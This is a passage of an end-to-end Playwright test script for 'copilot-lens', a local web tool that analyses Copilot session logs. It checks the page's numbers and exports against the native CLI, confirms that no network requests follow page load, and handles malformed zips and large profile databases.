#!/usr/bin/env node
// End-to-end tests of the page in real headless Chromium (Debian's /usr/bin/chromium, driven by
// npm playwright-core). Needs www/ built (scripts/build-web.sh), dist/copilot-lens.html
// (scripts/build-single.sh) and target/release/copilot-lens (the expected numbers come from the
// native CLI on the same input). Screenshots go to $SHOTS_DIR (default /tmp/copilot-lens-shots).
//   node tests/e2e/run.mjs [NAME_FILTER]     runs only the tests whose name holds NAME_FILTER
import { execFileSync, spawnSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, utimesSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import {
  ROOT,
  SHOTS,
  accessibilityProblems,
  assert,
  assertEqual,
  clickToEnd,
  csvFromRowsJsonl,
  filesUnder,
  launch,
  native,
  nativeRefusal,
  recordNetwork,
  showView,
  startServer,
  waitEngine,
  waitForState,
  zipDirectory,
} from './lib.mjs';
import { assertFits, phoneTests } from './phone.mjs';

const SPEC = path.join(ROOT, 'fixtures/spec-sample');
const HOSTILE = path.join(ROOT, 'fixtures/hostile-html');
const INPUTS = path.join(ROOT, 'fixtures/hostile');
const DEMO = path.join(ROOT, 'www/demo/copilot-demo.zip');
const SINGLE = path.join(ROOT, 'dist/copilot-lens.html');
const VIEWS = ['overview', 'usage', 'month', 'sessions', 'timeline', 'inventory', 'diagnostics', 'exports'];
const TMP = mkdtempSync(path.join(os.tmpdir(), 'copilot-lens-e2e-'));

mkdirSync(SHOTS, { recursive: true });

// ---- helpers ------------------------------------------------------------------------------------

/**
 * A fresh page with network recording, error and dialog capture, CSP violation capture; `init`
 * runs in the page before its own scripts.
 */
async function openPage(browser, url, origin, init = null) {
  const net = await recordNetwork(browser.context, origin);
  const page = await browser.context.newPage();
  const errors = [];
  const dialogs = [];
  page.on('pageerror', (error) => errors.push(error.message));
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    dialog.dismiss().catch(() => {});
  });
  await page.addInitScript(() => {
    window.__cspViolations = [];
    document.addEventListener('securitypolicyviolation', (e) => window.__cspViolations.push(`${e.violatedDirective} ${e.blockedURI}`));
  });
  if (init) await page.addInitScript(init);
  await page.goto(url);
  await page.waitForLoadState('load');
  await waitEngine(page);
  net.mark('after-load');
  return { page, net, errors, dialogs };
}

async function summaryOf(page) {
  return page.evaluate(() => window.copilotLens.summary);
}

/** The numbers a view shows, from its tiles (raw value and the text shown). */
async function tiles(page, view = 'overview') {
  return page.evaluate((view) =>
    Object.fromEntries([...document.querySelectorAll(`#view-${view} .tile`)].map((t) => [t.dataset.metric, { value: Number(t.dataset.value), text: t.querySelector('.tile-value').textContent }])),
    view,
  );
}

const fmtInt = (n) => new Intl.NumberFormat('en-US').format(n);
const hundredths = new Intl.NumberFormat('en-US', { minimumFractionDigits: 2, maximumFractionDigits: 2 });

/** Checks the summary and the Overview against the native CLI's outputs. */
async function checkNumbers(page, expected, label) {
  assertEqual(await summaryOf(page), sortKeys(expected.summary), `${label}: window.copilotLens.summary equals the native CLI's`);
  await showView(page, 'diagnostics');
  // The analysis's own figures are the Diagnostics view's; the Overview keeps what a person asks.
  const developer = await tiles(page, 'diagnostics');
  await showView(page, 'overview');
  const shown = await tiles(page);
  const want = {
    sessions: expected.summary.sessions,
    prompts: expected.prompts,
    tool_calls: expected.toolCalls,
    total_tokens: expected.summary.total_tokens,
    rows: expected.summary.rows,
    files: expected.summary.files,
    bad_lines: expected.summary.bad_lines,
  };
  for (const [metric, value] of Object.entries(want)) {
    const where = ['rows', 'files', 'bad_lines'].includes(metric) ? ['Diagnostics', developer] : ['Overview', shown];
    assertEqual(where[1][metric].value, value, `${label}: ${where[0]} ${metric}`);
    assertEqual(where[1][metric].text, fmtInt(value), `${label}: ${where[0]} ${metric} as shown`);
  }
  // The one money figure: the native usage's credits used.
  if (expected.usage) assertEqual(shown.credits_used.value, expected.usage.credits_used.credits, `${label}: Overview credits used`);
  // Which days the data covers: the native sessions' first and last events.
  const times = (expected.sessions || []).flatMap((r) => [r.first_event || r.created_at, r.last_event || r.updated_at]).filter(Boolean).sort();
  if (times.length) {
    const sessions = `${fmtInt(expected.sessions.length)} ${expected.sessions.length === 1 ? 'session' : 'sessions'}`;
    assertEqual(await page.textContent('#overview-covers'), `From ${times[0].slice(0, 10)} to ${times.at(-1).slice(0, 10)} (UTC days): ${sessions}.`, `${label}: the days the Overview covers`);
  }
  return want;
}

/**
 * Session records without the homes that hold them: a home's label starts with its root's,
 * which is the path given to the CLI but the folder or file name in the page.
 */
function withoutHomes(jsonl) {
  return jsonl.split('\n').filter(Boolean).map((line) => ({ ...JSON.parse(line), homes: undefined }));
}

function sortKeys(object) {
  return Object.fromEntries(Object.entries(object).sort(([a], [b]) => (a < b ? -1 : 1)));
}

/**
 * The file a click makes the page download. The page's own part is checked: it must ask for the
 * download (a link with a download name clicked). Chromium has once, on CI, not reported such a
 * download within 30 s; then the click is made once more, and that is said on stderr.
 */
async function download(page, trigger) {
  const asked = () => page.evaluate(() => window.__downloadsAsked.length);
  const attempt = async () => {
    const before = await asked();
    try {
      const [file] = await Promise.all([page.waitForEvent('download'), trigger()]);
      return file;
    } catch (error) {
      const state = await page.evaluate(() => ({
        asked: window.__downloadsAsked,
        statuses: [...document.querySelectorAll('[id="export-status"]')].map((status) => status.textContent),
        buttons: document.querySelectorAll('#view-exports button[data-export]').length,
        state: document.body.dataset.state,
      }));
      return { error, madeByPage: state.asked.length > before, state };
    }
  };
  let file = await attempt();
  if (file.error && file.madeByPage) {
    console.error(`     (the page asked for ${file.state.asked.at(-1)}, and Chromium reported no download in 30 s: clicked again)`);
    file = await attempt();
  }
  if (file.error) throw new Error(`${file.error.message}; the page then: ${JSON.stringify(file.state)}`);
  const target = path.join(TMP, `${Date.now()}-${file.suggestedFilename()}`);
  await file.saveAs(target);
  return { name: file.suggestedFilename(), text: readFileSync(target, 'utf8') };
}

async function exportFile(page, what) {
  await showView(page, 'exports');
  return download(page, () => page.click(`#view-exports button[data-export="${what}"]`));
}

async function screenshots(page, prefix) {
  for (const view of VIEWS) {
    await showView(page, view);
    await page.waitForTimeout(150);
    await shot(page, `${prefix}-${view}.png`, view !== 'timeline');
  }
}

/** A screenshot, of the whole page when `full` (cut at 3000 pixels). */
async function shot(page, name, full = true) {
  const height = full ? Math.min(3000, await page.evaluate(() => document.documentElement.scrollHeight)) : 0;
  await page.screenshot({ path: path.join(SHOTS, name), ...(full ? { fullPage: true, clip: { x: 0, y: 0, width: 1400, height } } : {}) });
}

// The page's own files it loads on first use, after an analysis is done: the chart and Markdown
// libraries (www/charts.js, www/markdown.js) and the views with their modules (app.js's VIEWS).
// The engine's full module, fetched for a file to save, the report, a team export or the bill;
// the worker then starts again on it, and its two workers fetch their scripts again (from the
// browser's cache, where the server lets it keep them).
const FULL_MODULE = '/pkg/copilot_lens_full_bg.wasm';
const WORKER_SCRIPTS = ['/worker.js', '/pkg/copilot_lens.js', '/cache.js'];
const LOADED_ON_USE = [
  '/vendor/chart.umd.min.js',
  '/vendor/marked.umd.js',
  ...['overview', 'usage', 'month', 'sessions', 'transcript', 'timeline', 'inventory', 'diagnostics', 'exports'].map((view) => `/views/${view}.js`),
  '/charts.js',
  '/diff.js',
  '/markdown.js',
  '/scroll-boxes.js',
];

/** Whether `selector` is visible within a few seconds: a view's module is fetched when it is first shown. */
const shownSoon = (page, selector) =>
  page.locator(selector).waitFor({ state: 'visible', timeout: 10_000 }).then(
    () => true,
    () => false,
  );

function noNetworkAfterLoad(net, server, label, allowedAlso = []) {
  assertEqual(net.foreign, [], `${label}: no request leaves the page's origin`);
  const after = net.during('after-load').map((e) => e.url).filter((url) => !url.startsWith('blob:') && !url.startsWith('data:'));
  const fullEngine = after.some((url) => url.endsWith(FULL_MODULE)) ? [FULL_MODULE, ...WORKER_SCRIPTS] : [];
  const allowed = [...LOADED_ON_USE, ...fullEngine, ...allowedAlso];
  const unexpected = after.filter((url) => !allowed.some((suffix) => url.endsWith(suffix)));
  assertEqual(unexpected, [], `${label}: no request after the page has loaded`);
  if (server) {
    const seen = server.requests.filter((r) => r.at >= net.loadedAt).map((r) => r.url);
    assertEqual(seen.filter((url) => !allowed.some((suffix) => url.endsWith(suffix))), [], `${label}: the server saw nothing after load`);
  }
}

async function markLoaded(net) {
  net.loadedAt = Date.now();
}

async function pick(page, folder) {
  await page.setInputFiles('#pick-folder', folder);
  const state = await waitForState(page, ['done', 'error'], 300_000);
  if (state !== 'done') throw new Error(`analysis of ${folder} ended in ${state}: ${await page.evaluate(() => window.copilotLens.error)}`);
}

/** Drops `files` ({name, bytes}) on the page as one synthetic drop with a DataTransfer. */
async function dropFiles(page, files) {
  const payload = files.map((f) => ({ name: f.name, b64: Buffer.from(f.bytes).toString('base64') }));
  const dataTransfer = await page.evaluateHandle((list) => {
    const dt = new DataTransfer();
    for (const { name, b64 } of list) {
      const binary = atob(b64);
      const bytes = new Uint8Array(binary.length);
      for (let i = 0; i < binary.length; i++) bytes[i] = binary.charCodeAt(i);
      dt.items.add(new File([bytes], name, { type: name.endsWith('.zip') ? 'application/zip' : '' }));
    }
    return dt;
  }, payload);
  await page.dispatchEvent('#drop-zone', 'dragenter', { dataTransfer });
  await page.dispatchEvent('#drop-zone', 'drop', { dataTransfer });
}

/** What the timeline's search looks at: the whole text (the worker reads long texts again for it). */
const searchable = (row) => row.text;

/**
 * A home in TMP/`name` with one CLI session per entry of `sessions` ({id, events: [[timestamp,
 * type, data]]}): the events.jsonl lines made from the spec fixture's shapes.
 */
function homeOf(name, sessions) {
  const home = path.join(TMP, name);
  for (const { id, events } of sessions) {
    const dir = path.join(home, '.copilot/session-state', id);
    mkdirSync(dir, { recursive: true });
    const start = [events[0][0], 'session.start', { sessionId: id, version: 1, producer: 'copilot-agent', copilotVersion: '1.0.98', startTime: events[0][0], context: { cwd: '/srv/search', gitRoot: '/srv/search', branch: 'main' } }];
    const lines = [start, ...events].map(([timestamp, type, data], at) => JSON.stringify({ id: `${id.slice(0, 8)}-0000-4000-8000-${String(at).padStart(12, '0')}`, parentId: null, timestamp, type, data }));
    writeFileSync(path.join(dir, 'events.jsonl'), lines.join('\n') + '\n');
  }
  return home;
}
const prompt = (content) => ({ content, transformedContent: content, messageId: randomBytes(8).toString('hex'), interactionId: 'i1', turnId: '0' });
const toolCall = (id, command) => ({ toolCallId: id, toolName: 'bash', toolTitle: 'Run shell command', arguments: { command }, turnId: '0' });
const toolResult = (id, content) => ({ toolCallId: id, success: true, result: { content, detailedContent: content }, turnId: '0' });

// ---- tests ------------------------------------------------------------------------------------------

const tests = [];
const test = (name, fn) => tests.push({ name, fn });

let server;

test('folder pick of the spec fixture equals the native CLI; transcript; exports byte for byte; no network', async () => {
  const expected = native(SPEC);
  const browser = await launch();
  try {
    const { page, net, errors } = await openPage(browser, server.url, server.url.replace(/\/$/, ''));
    await markLoaded(net);
    assert(net.during('load').some((e) => e.url.endsWith('/pkg/copilot_lens.js')), 'the recorder sees the worker\'s own requests');
    await pick(page, SPEC);
    const shown = await checkNumbers(page, expected, 'spec folder');
    await screenshots(page, 'spec');

    // Diagnostics shows the report's totals.
    await showView(page, 'diagnostics');
    const badLines = await page.textContent('#view-diagnostics [data-total="bad_lines"]');
    assertEqual(badLines, String(expected.report.totals.bad_lines), 'Diagnostics bad lines');
    const badRows = await page.$$eval('#view-diagnostics table', (tables) => tables.some((t) => t.textContent.includes('events.jsonl:35')));
    assert(badRows, 'Diagnostics lists the bad line with its place (events.jsonl:35)');

    // Sessions list and a transcript.
    await showView(page, 'sessions');
    assertEqual(await page.$$eval('#session-list tbody tr', (rows) => rows.length), expected.sessions.length, 'Sessions lists every session');
    await page.click('#session-list tbody tr:first-child button.link');
    await page.waitForSelector('#transcript[data-loaded="5e55a0a1-0000-4000-8000-000000000001"]');
    const transcript = await page.evaluate(() => {
      const c = document.getElementById('conversation');
      const bash = [...c.querySelectorAll('details.tool')].find((d) => d.querySelector('.tool-name').textContent === 'bash');
      return {
        prompts: [...c.querySelectorAll('.msg.user .msg-text')].map((e) => e.textContent),
        replies: [...c.querySelectorAll('.msg.assistant .msg-text')].map((e) => e.textContent),
        bashCall: bash && bash.querySelector('pre').textContent,
        bashResult: bash && bash.querySelector('pre.result') && bash.querySelector('pre.result').textContent,
        bashOpen: bash && bash.open,
        permissionRequests: c.querySelectorAll('.sys.perm-request').length,
        permissionDecisions: c.querySelectorAll('.sys.perm-decision, .sys.perm-denied').length,
        modelChanges: c.querySelectorAll('.sys.model').length,
      };
    });
    const sessionRows = expected.rowsJsonl
      .split('\n')
      .filter(Boolean)
      .map((line) => JSON.parse(line))
      .filter((r) => r.session_id === '5e55a0a1-0000-4000-8000-000000000001')
      .sort((a, b) => (a.timestamp_utc || '\uffff').localeCompare(b.timestamp_utc || '\uffff'));
    assertEqual(transcript.prompts, sessionRows.filter((r) => r.turn_type === 'user').map((r) => r.text), 'transcript prompts in time order');
    assertEqual(transcript.replies, ['The fixture year was stale; it now reads 2026.'], 'transcript reply');
    assertEqual(transcript.bashCall, 'npm test', 'the bash call, folded');
    assert(transcript.bashResult && transcript.bashResult.startsWith('[exit 1] 1 failing'), 'the bash result sits inside its call');
    assertEqual(transcript.bashOpen, false, 'tool calls start folded');
    assertEqual([transcript.permissionRequests, transcript.permissionDecisions], [2, 2], 'permission requests and decisions');
    assert(transcript.modelChanges >= 2, 'model changes shown');
    await page.click('#conversation details.tool summary');
    await shot(page, 'spec-transcript.png');

    // Exports, made in the browser, against the native outputs.
    const csv = await exportFile(page, 'rows.csv');
    assertEqual(csv.name, 'rows.csv', 'rows.csv file name');
    assert(csv.text === csvFromRowsJsonl(expected.rowsJsonl), 'rows.csv equals, byte for byte, the CSV of the native rows.jsonl');
    const jsonl = await exportFile(page, 'rows.jsonl');
    assert(jsonl.text === expected.rowsJsonl, 'rows.jsonl equals the native rows.jsonl byte for byte');
    assert((await exportFile(page, 'usage.csv')).text === expected.usageCsv, 'usage.csv equals the native one');
    assertEqual(withoutHomes((await exportFile(page, 'sessions.jsonl')).text), withoutHomes(expected.sessionsJsonl), 'sessions.jsonl equals the native one');
    const report = JSON.parse((await exportFile(page, 'report.json')).text);
    report.roots.forEach((root, i) => (root.label = expected.report.roots[i].label));
    report.homes.forEach((home, i) => (home.label = expected.report.homes[i].label));
    assertEqual(report, expected.report, "report.json equals the native one (but the root's label, which starts its homes')");
    const md = await download(page, () => page.click('#view-exports button[data-export="session.md"]'));
    assert(md.text.startsWith('# Fix failing test\n\nSession `5e55a0a1-0000-4000-8000-000000000001`'), 'session.md export');
    assertEqual(md.name, 'session-5e55a0a1-0000-4000-8000-000000000001.md', "session.md is saved under the catalogue's name for the session");

    assertEqual(errors, [], 'no page errors');
    noNetworkAfterLoad(net, server, 'spec folder');
    return `summary ${JSON.stringify(await summaryOf(page))}; overview ${JSON.stringify(shown)}; rows.csv ${csv.text.length} bytes identical`;
  } finally {
    await browser.close();
  }
});

test('a dropped zip (and two zips at once) equal the native CLI on the same zips', async () => {
  const zip = zipDirectory(SPEC, 'spec-home');
  const zipPath = path.join(TMP, 'spec-sample.zip');
  writeFileSync(zipPath, zip);
  const expected = native(zipPath);
  const browser = await launch();
  try {
    const { page, net, errors } = await openPage(browser, server.url, server.url.replace(/\/$/, ''));
    await markLoaded(net);
    await dropFiles(page, [{ name: 'spec-sample.zip', bytes: zip }]);
    assertEqual(await waitForState(page, ['done', 'error']), 'done', 'the dropped zip is analysed');
    await checkNumbers(page, expected, 'dropped zip');
    assert((await exportFile(page, 'rows.jsonl')).text === expected.rowsJsonl, 'rows.jsonl of the dropped zip equals the native one');

    // Any mix at once: two zips in one drop are two roots.
    const demo = readFileSync(DEMO);
    const both = native2([zipPath, DEMO]);
    await dropFiles(page, [
      { name: 'spec-sample.zip', bytes: zip },
      { name: 'copilot-demo.zip', bytes: demo },
    ]);
    await page.waitForFunction((rows) => window.copilotLens.summary && window.copilotLens.summary.rows === rows, both.summary.rows, { timeout: 60_000 });
    await checkNumbers(page, both, 'two dropped zips');
    const twoZips = await summaryOf(page);
    // A zip that is not one: the rest is analysed and the bad input is reported.
    await dropFiles(page, [
      { name: 'spec-sample.zip', bytes: zip },
      { name: 'broken.zip', bytes: Buffer.from('PK\u0003\u0004 this is not really a zip archive') },
    ]);
    await page.waitForFunction((rows) => window.copilotLens.summary && window.copilotLens.summary.rows === rows, expected.summary.rows, { timeout: 60_000 });
    assertEqual(await summaryOf(page), sortKeys(expected.summary), 'a broken zip beside a good one: the good one is analysed');
    await showView(page, 'overview');
    assert((await page.textContent('#view-overview .warning')).includes('broken.zip'), 'the broken zip is reported on the Overview');
    await showView(page, 'diagnostics');
    assert((await page.textContent('#view-diagnostics')).includes('broken.zip'), 'and in Diagnostics');
    await shot(page, 'zip-broken-diagnostics.png', false);

    // The page inflates a zip's logs itself; an entry whose checksum is wrong is read again
    // by the engine, which reports it as the CLI does.
    const damaged = withWrongChecksums(zip, 'events.jsonl');
    const damagedPath = path.join(TMP, 'spec-damaged.zip');
    writeFileSync(damagedPath, damaged);
    const damagedExpected = native(damagedPath);
    await dropFiles(page, [{ name: 'spec-damaged.zip', bytes: damaged }]);
    await page.waitForFunction(() => document.body.dataset.state === 'done' && window.copilotLens.summary);
    await checkNumbers(page, damagedExpected, 'a zip with a wrong checksum');
    assert((await exportFile(page, 'rows.jsonl')).text === damagedExpected.rowsJsonl, 'its rows equal the native ones');
    await showView(page, 'diagnostics');
    assert(/checksum/i.test(await page.textContent('#view-diagnostics')), 'the wrong checksum is in Diagnostics');
    assertEqual(errors, [], 'no page errors');
    noNetworkAfterLoad(net, server, 'zip drop');
    return `two zips at once: ${JSON.stringify(twoZips)}; with a broken zip beside: ${JSON.stringify(await summaryOf(page))}`;
  } finally {
    await browser.close();
  }
});

test('VS Code chat sessions: every fixture as a folder, a User folder with long texts and a Windows home zip equal the native CLI; only the chat files are walked; a debug log is read by the full module, a chat alone and CLI data by the first', async () => {
  const cases = path.join(ROOT, 'fixtures/vscode');
  // A User folder given itself, with texts longer than the row table keeps (read again whole
  // from the replayed log) and other extensions' files that are not walked.
  const user = path.join(TMP, 'User');
  const storage = path.join(user, 'workspaceStorage/ab12');
  const longOutput = 'line of tool output\n'.repeat(400);
  const request = {
    requestId: 'r1', timestamp: 1790000000000, modelId: 'copilot/gpt-5', message: { text: 'read the log' },
    response: [
      { value: 'Reading it. '.repeat(60) },
      { kind: 'toolInvocationSerialized', toolId: 'copilot_readFile', toolCallId: 'c1', invocationMessage: { value: 'Reading' }, resultDetails: { input: '{"path":"app.log"}', output: [{ type: 'embed', value: longOutput }] } },
    ],
    result: { metadata: { promptTokens: 1200, outputTokens: 90, toolCallRounds: [{}] } },
  };
  const log = [
    { kind: 0, v: { version: 3, sessionId: 'long', creationDate: 1789999990000, requests: [] } },
    { kind: 2, k: ['requests'], v: [request] },
    { kind: 1, k: ['customTitle'], v: 'Long texts' },
  ].map((entry) => JSON.stringify(entry)).join('\n');
  for (const [rel, text] of [
    ['workspace.json', '{"folder":"file:///home/mona/app"}'],
    ['chatSessions/5e55a0a1-0000-4000-8000-00000000aaaa.jsonl', log],
  ]) {
    mkdirSync(path.dirname(path.join(storage, rel)), { recursive: true });
    writeFileSync(path.join(storage, rel), text);
  }
  for (const rel of ['globalStorage/some.extension/cache.bin', 'History/1a2b/entries.json', 'workspaceStorage/ab12/chatEditingSessions/x/state.json']) {
    mkdirSync(path.dirname(path.join(user, rel)), { recursive: true });
    writeFileSync(path.join(user, rel), 'not walked');
  }
  const windows = zipDirectory(path.join(cases, '13-windows-zip'), 'C:/Users/ana');
  const windowsPath = path.join(TMP, 'windows-home.zip');
  writeFileSync(windowsPath, windows);
  const browser = await launch();
  try {
    const { page, net, errors } = await openPage(browser, server.url, server.url.replace(/\/$/, ''));
    await markLoaded(net);
    const compare = async (expected, label) => {
      await checkNumbers(page, expected, label);
      assert((await exportFile(page, 'rows.jsonl')).text === expected.rowsJsonl, `${label}: rows.jsonl equals the native one`);
      assertEqual(withoutHomes((await exportFile(page, 'sessions.jsonl')).text), withoutHomes(expected.sessionsJsonl), `${label}: sessions equal the native ones`);
      assertEqual((await exportFile(page, 'usage.csv')).text, expected.usageCsv, `${label}: usage.csv equals the native one`);
    };
    // The first module leaves VS Code's debug logs to the full one: a chat alone and Copilot
    // CLI's data stay on the first module; a debug log moves the analysis there, once, and it
    // ends with the native numbers.
    const fullModuleFetches = () => net.during('after-load').filter((e) => e.url.endsWith(FULL_MODULE)).length;
    for (const input of [path.join(cases, '01-json-only'), path.join(ROOT, 'fixtures/spec-sample')]) {
      await pick(page, input);
      assertEqual(fullModuleFetches(), 0, `${path.basename(input)}: analysed by the first module`);
    }
    const debugLogs = path.join(cases, '17-debug-logs');
    await pick(page, debugLogs);
    assertEqual(fullModuleFetches(), 1, '17-debug-logs: analysed by the full module, loaded once');
    // Its rows too: the texts of the log whose chat is gone, none of those its chat holds.
    await compare(native(debugLogs), '17-debug-logs, through the move to the full module');
    // The calls Copilot made for itself, set apart by purpose as natively (the agents added up).
    await showView(page, 'usage');
    await page.selectOption('#usage-by', 'purpose');
    const ownCalls = (await usageShown(page, 'Usage by purpose')).rows.filter((row) => row[0] !== 'request').map((row) => row.slice(0, 3));
    const nativeOwnCalls = nativeUsage(debugLogs, ['--by', 'purpose']).rows.filter((row) => row.purpose !== 'request').map((row) => [row.purpose, row.model, row.credits.toFixed(2)]);
    assertEqual(ownCalls, nativeOwnCalls, "17-debug-logs: Copilot's own calls by purpose, as natively");
    assertEqual(nativeOwnCalls.map((row) => row[0]), ['summarizeVirtualTools', 'title'], '17-debug-logs: its two purposes of its own');
    // The Month view says each surface's credits, recorded and estimated; they add up to the
    // month's, and each to the native usage of that surface in the month.
    await showView(page, 'month');
    await page.waitForSelector('#month-surfaces');
    const month = (await monthShown(page)).month;
    assertEqual(month.by_agent.map((share) => share.agent), ['copilot-cli', 'copilot-vscode'], '17-debug-logs: two surfaces in its month');
    const sum = (key) => month.by_agent.reduce((total, share) => total + share[key], 0);
    assert(Math.abs(sum('recorded') - month.recorded) < 1e-9 && Math.abs(sum('estimated') - month.estimated) < 1e-9, 'the surfaces add up to the month');
    const nativeMonth = nativeUsage(debugLogs, ['--by', 'month']).rows.filter((row) => row.month === month.month);
    for (const share of month.by_agent) {
      const rows = nativeMonth.filter((row) => row.agent === share.agent);
      const credits = rows.reduce((total, row) => total + row.credits, 0);
      assert(Math.abs(credits - share.recorded - share.estimated) <= 0.005 * rows.length, `${share.agent}: ${credits} natively, ${share.recorded} + ${share.estimated} shown`);
    }
    const surfaces = await page.textContent('#month-surfaces');
    assert(/^By surface: Copilot CLI: [\d.,]+ as Copilot recorded them, [\d.,]+ estimated at the published rates; VS Code: [\d.,]+ as Copilot recorded them, [\d.,]+ estimated at the published rates\.$/.test(surfaces), `the surfaces in words: ${surfaces}`);
    await showView(page, 'overview');
    const names = filesUnder(cases).map((rel) => rel.split('/')[0]).filter((name, i, all) => all.indexOf(name) === i);
    for (const name of names) {
      await pick(page, path.join(cases, name));
      await compare(native(path.join(cases, name)), name);
    }
    const long = native(user);
    assert(long.report.homes[0].layout === 'vscode_user_folder', `a User folder is read as itself: ${JSON.stringify(long.report.homes)}`);
    assert(long.rowsJsonl.includes(JSON.stringify(longOutput)), 'the native rows hold the whole tool output');
    await pick(page, user);
    await compare(long, 'a User folder with long texts');
    await dropFiles(page, [{ name: 'windows-home.zip', bytes: windows }]);
    assertEqual(await waitForState(page, ['done', 'error']), 'done', 'the Windows home zip is analysed');
    await compare(native(windowsPath), 'a zip of a Windows home');
    await showView(page, 'sessions');
    await shot(page, 'vscode-sessions.png', false);
    assertEqual(errors, [], 'no page errors');
    noNetworkAfterLoad(net, server, 'vscode');
    return `${names.length} fixtures, a User folder (${long.summary.files} files of ${filesUnder(user).length} walked) and a Windows zip equal the native CLI`;
  } finally {
    await browser.close();
  }
});

test('nothing dropped: every hostile fixture and older CLI layout as a folder equals the native CLI; a folder holding a home\'s zip reads as the CLI reads it; a state.vscdb over 64 MB keeps its chat titles', async () => {
  // A folder holding only a zip of a home with both agents' data, and a note beside it.
  const dropped = path.join(TMP, 'dropped');
  mkdirSync(dropped, { recursive: true });
  writeFileSync(path.join(dropped, 'laptop.zip'), zipDirectory(path.join(ROOT, 'fixtures/vscode/beside-cli'), 'laptop'));
  writeFileSync(path.join(dropped, 'notes.txt'), 'not Copilot\'s');
  // A VS Code profile whose state.vscdb holds 100 MiB of other extensions' state beside the index.
  const profile = path.join(TMP, 'profile');
  const workspace = path.join(profile, '.config/Code/User/workspaceStorage/large');
  const chatId = 'c0de0901-0000-4000-8000-000000000901';
  mkdirSync(path.join(workspace, 'chatSessions'), { recursive: true });
  writeFileSync(path.join(workspace, `chatSessions/${chatId}.jsonl`), JSON.stringify({ kind: 0, v: { sessionId: chatId, creationDate: 1790000000000, requests: [{ requestId: 'r1', timestamp: 1790000000000, message: { text: 'hello' } }] } }));
  execFileSync('python3', ['-c', `
import json, sqlite3, sys
db = sqlite3.connect(sys.argv[1])
db.execute("CREATE TABLE ItemTable (key TEXT UNIQUE ON CONFLICT REPLACE, value BLOB)")
db.execute("INSERT INTO ItemTable VALUES ('chat.ChatSessionStore.index', ?)", (json.dumps({"version": 1, "entries": {sys.argv[2]: {"title": "Titled in a large profile"}}}),))
db.execute("INSERT INTO ItemTable VALUES ('some.extension.cache', zeroblob(100 * 1024 * 1024))")
db.commit()
`, path.join(workspace, 'state.vscdb'), chatId]);

  // The hostile folders, and the older Copilot CLI layouts (fixtures/layouts/).
  const LAYOUTS = path.join(ROOT, 'fixtures/layouts');
  const folders = (base) => [...new Set(filesUnder(base).map((rel) => rel.split('/')[0]))].map((name) => path.join(base, name)).filter((folder) => statSync(folder).isDirectory());
  const cases = [...folders(INPUTS), ...folders(LAYOUTS)];
  const browser = await launch();
  try {
    const { page, net, errors } = await openPage(browser, server.url, server.url.replace(/\/$/, ''));
    await markLoaded(net);
    const compare = async (folder, label) => {
      const expected = native(folder, { byName: true });
      await pick(page, folder);
      await checkNumbers(page, expected, label);
      assert((await exportFile(page, 'rows.jsonl')).text === expected.rowsJsonl, `${label}: rows.jsonl equals the native one`);
      assertEqual((await exportFile(page, 'sessions.jsonl')).text, expected.sessionsJsonl, `${label}: sessions.jsonl equals the native one`);
      assertEqual((await exportFile(page, 'usage.csv')).text, expected.usageCsv, `${label}: usage.csv equals the native one`);
      assertEqual((await exportFile(page, 'inventory.json')).text, expected.inventoryJson, `${label}: inventory.json equals the native one`);
      const report = JSON.parse((await exportFile(page, 'report.json')).text);
      assertEqual(report.diagnostics, expected.report.diagnostics, `${label}: the diagnostics equal the native ones`);
      return { expected, report };
    };
    const compared = [];
    const refused = [];
    for (const folder of cases) {
      const name = path.relative(path.join(ROOT, 'fixtures'), folder);
      let refusal = null;
      try {
        native(folder, { byName: true });
      } catch {
        refusal = nativeRefusal(folder);
      }
      if (refusal === null) {
        await compare(folder, name);
        // A zip of the folder that cannot be read is left out with a warning, there as here.
        const warned = spawnSync(path.join(ROOT, 'target/release/copilot-lens'), ['usage', path.basename(folder)], { cwd: path.dirname(folder), encoding: 'utf8' })
          .stderr.split('\n')
          .filter((line) => line.startsWith('copilot-lens: warning: '))
          .map((line) => line.slice('copilot-lens: warning: '.length).replace(/ \(left out\)$/, ''));
        if (warned.length) {
          await showView(page, 'overview');
          const shown = await page.textContent('#view-overview .warning');
          for (const warning of warned) assert(shown.includes(warning), `${name}: the page warns as the CLI does: ${warning}\nshown: ${shown}`);
        }
        compared.push(warned.length ? `${name} (${warned.length} zips left out)` : name);
        continue;
      }
      // A folder the CLI refuses (only zips that are no zips): the page refuses it too.
      await page.setInputFiles('#pick-folder', folder);
      assertEqual(await waitForState(page, ['done', 'error']), 'error', `${name} is refused as the CLI refuses it (${refusal})`);
      refused.push(name);
    }
    // A model chosen that never answered shows in the Sessions view, marked (cli-1.0.14).
    const neverUsed = native(path.join(LAYOUTS, 'cli-1.0.14')).sessions.filter((session) => (session.models_never_used || []).length);
    assert(neverUsed.length > 0, 'the fixture has a model that never answered');
    await pick(page, path.join(LAYOUTS, 'cli-1.0.14'));
    await showView(page, 'sessions');
    const modelsCells = await page.$$eval('#view-sessions td.models', (cells) => cells.map((cell) => cell.textContent));
    assert(modelsCells.some((text) => text.includes(`${neverUsed[0].models_never_used[0]} (chosen, never answered)`)), `the Sessions view marks it: ${modelsCells}`);
    const { expected: fromZip, report } = await compare(dropped, 'a folder holding a home\'s zip');
    assertEqual(report.roots.map((root) => root.label), ['dropped/laptop.zip'], 'the zip is the root, named in its folder');
    assert(fromZip.usageCsv.includes('copilot-vscode') && fromZip.usageCsv.includes('copilot-cli'), `both agents' usage is read from the zip: ${fromZip.usageCsv}`);
    const { expected: large } = await compare(profile, 'a state.vscdb of 100 MiB');
    assert(large.sessionsJsonl.includes('"name":"Titled in a large profile"'), `the CLI keeps the title: ${large.sessionsJsonl}`);
    assertEqual(errors, [], 'no page errors');
    noNetworkAfterLoad(net, server, 'nothing dropped');
    return `${compared.length} hostile and older-layout folders equal the native CLI (${compared.join(', ')}); ${refused.length} refused as the CLI refuses them (${refused.join(', ')}); a folder's zip and a 100 MiB state.vscdb read as natively`;
  } finally {
    await browser.close();
  }
});

test('a zip of two machines shows both homes; the same home given twice counts once; a log dropped alone is its session; all equal the native CLI', async () => {
  const real = path.join(ROOT, 'fixtures/real-cli-1.0.102');
  const collected = path.join(TMP, 'collected');
  for (const [machine, from] of [['machineA', SPEC], ['machineB', real]]) {
    for (const rel of filesUnder(from)) {
      const target = path.join(collected, machine, rel);
      mkdirSync(path.dirname(target), { recursive: true });
